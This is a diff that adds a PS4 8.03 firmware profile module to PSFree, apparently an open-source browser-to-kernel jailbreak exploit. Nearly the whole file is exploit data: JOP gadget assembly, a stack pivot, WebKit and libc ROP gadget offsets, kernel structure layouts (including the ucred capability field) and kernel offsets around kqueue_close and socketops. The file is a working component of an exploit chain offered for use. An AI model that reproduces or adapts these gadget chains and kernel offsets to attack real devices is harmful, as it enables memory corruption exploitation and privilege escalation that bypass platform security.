@@ -0,0 +1,195 @@
+/* Copyright (C) 2023 anonymous
+
+This file is part of PSFree.
+
+PSFree is free software: you can redistribute it and/or modify
+it under the terms of the GNU Affero General Public License as
+published by the Free Software Foundation, either version 3 of the
+License, or (at your option) any later version.
+
+PSFree is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU Affero General Public License for more details.
+
+You should have received a copy of the GNU Affero General Public License
+along with this program.  If not, see <https://www.gnu.org/licenses/>.  */
+
+// firmware profile for PS4 8.03, the original target platform, see
+// module/profiles.mjs
+
+import {
+    kjop1,
+    k2jop1,
+    ta_jop1,
+    jop3,
+    jop5,
+} from '../rop_gadgets.mjs';
+import { define_struct } from '../struct.mjs';
+
+const ta_jop2 = `
+pop rsi
+jmp qword ptr [rax + 0x5f]
+`;
+const ta_jop3 = `
+mov rdi, qword ptr [rax + 8]
+mov rax, qword ptr [rdi]
+jmp qword ptr [rax + 0x68]
+`;
+const jop2 = `
+push rbp
+mov rbp, rsp
+mov rax, qword ptr [rdi]
+call qword ptr [rax + 0x30]
+`;
+const jop4 = `
+push rdx
+mov edi, 0xac9784fe
+jmp qword ptr [rax]
+`;
+const pivot = 'pop rdi; jmp qword ptr [rax + 0x50]';
+
+// kernel structures
+//
+// only the fields we use are declared
+const kevent_t = define_struct('kevent', {
+    ident : 'u64',
+    filter : 'i16',
+    flags : 'u16',
+    fflags : 'u32',
+    data : 'i64',
+    udata : 'ptr',
+});
+const knote_t = define_struct('knote', {
+    kn_link : 'ptr',
+    kn_fop : ['ptr', 0x68],
+});
+const filterops_t = define_struct('filterops', {
+    f_isfd : 'i32',
+    f_attach : 'ptr',
+    f_detach : 'ptr',
+    f_event : 'ptr',
+});
+const thread_t = define_struct('thread', {
+    td_proc : ['ptr', 8],
+});
+const proc_t = define_struct('proc', {
+    p_ucred : ['ptr', 0x40],
+});
+// struct ucred has been customized for the ps4
+// see TODO for definition
+const ucred_t = define_struct('ucred', {
+    cr_sceCaps : ['u64[2]', 0x60],
+});
+
+export const profile = {
+    id : 'ps4_8_03',
+    name : 'PS4 8.03',
+
+    jmp_buf_size : 0xc8,
+
+    jop : {
+        ta_jop1,
+        ta_jop2,
+        ta_jop3,
+        jop2,
+        jop3,
+        jop4,
+        jop5,
+        pivot,
+    },
+    vtable : {
+        scroll_left : 0x1c8,
+        ta_jop2 : 0xb8,
+        ta_jop3 : 0x5f,
+    },
+    rax_ptrs : {
+        jop2 : 0x68,
+        jop3 : 0x30,
+        jop4 : 0x10,
+        jop5 : 0,
+        rsp : 0x18,
+    },
+    pivot_slot : 0x50,
+
+    webkit_gadget_offsets : new Map(Object.entries({
+        'pop rax; ret' : 0x0000000000035a1b,
+        'pop rbx; ret' : 0x000000000001537c,
+        'pop rcx; ret' : 0x0000000000025ecb,
+        'pop rdx; ret' : 0x0000000000060f52,
+
+        'pop rbp; ret' : 0x00000000000000b6,
+        'pop rsi; ret' : 0x000000000003bd77,
+        'pop rdi; ret' : 0x00000000001e3f87,
+        'pop rsp; ret' : 0x00000000000bf669,
+
+        'pop r8; ret' : 0x0000000000097442,
+        'pop r9; ret' : 0x00000000006f501f,
+        'pop r10; ret' : 0x0000000000060f51,
+        'pop r11; ret' : 0x0000000000d2a629,
+
+        'pop r12; ret' : 0x0000000000d8968d,
+        'pop r13; ret' : 0x00000000016ccff1,
+        'pop r14; ret' : 0x000000000003bd76,
+        'pop r15; ret' : 0x00000000002499df,
+
+        'ret' : 0x0000000000000032,
+        'leave; ret' : 0x0000000000291fd7,
+        'leave; jmp rcx' : 0x000000000062a061,
+
+        'neg rax; and rax, rcx; ret' : 0x0000000000e85f24,
+        'adc esi, esi; ret' : 0x000000000088cbb9,
+        'add rax, rdx; ret' : 0x00000000003cd92c,
+        'push rsp; jmp qword ptr [rax]' : 0x0000000001abbc92,
+        'add rcx, rsi; and rdx, rcx; or rax, rdx; ret' : 0x0000000000b8bc06,
+        [pivot] : 0x00000000021f9e8e,
+        'add rax, 8; ret': 0x0000000000468988,
+
+        'mov qword ptr [rdi], rsi; ret' : 0x0000000000034a40,
+        'mov rax, qword ptr [rax]; ret' : 0x000000000002dc62,
+        'mov qword ptr [rdi], rax; ret' : 0x000000000005b1bb,
+        'mov dword ptr [rdi], eax; ret' : 0x000000000001f864,
+        'mov rdx, rcx; ret' : 0x0000000000eae9fd,
+        'mov qword ptr [rdx], rax; mov al, 1; ret' : 0x00000000000b6dcf,
+        'mov rdx, qword ptr [rcx]; ret' : 0x0000000000182bc4,
+
+        'cli; jmp qword ptr [rax + 0x43]' : 0x0000000002163442,
+        'sti; ret' : 0x00000000004b94c8,
+        'xchg rbp, rax; ret' : 0x000000000218ef60,
+
+        [kjop1] : 0x00000000010da705,
+        [k2jop1] : 0x0000000001988320,
+
+        [jop2] : 0x000000000076b970,
+        [jop3] : 0x0000000000202698,
+        [jop4] : 0x00000000021af6ad,
+
+        [ta_jop1] : 0x00000000005efb14,
+        [ta_jop2] : 0x0000000002198221,
+        [ta_jop3] : 0x00000000014ff7a2,
+    })),
+    libc_gadget_offsets : new Map(Object.entries({
+        'neg rax; ret' : 0x00000000000d3503,
+        'mov rdx, rax; xor eax, eax; shl rdx, cl; ret' : 0x00000000000ce436,
+        'mov qword ptr [rsi], rcx; ret' : 0x00000000000cede2,
+    })),
+
+    kernel : {
+        // offset of the epilogue of kqueue_close() relative to the return
+        // address of the first f_detach() call in it
+        kqueue_close_epi : 689,
+        // offset of socketops relative to that epilogue
+        socketops : 0x179f39f,
+        // offset of socketops.fo_chmod relative to the kernel base
+        socketops_fo_chmod : 0x1a76060,
+
+        structs : {
+            kevent_t,
+            knote_t,
+            filterops_t,
+            thread_t,
+            proc_t,
+            ucred_t,
+        },
+    },
+};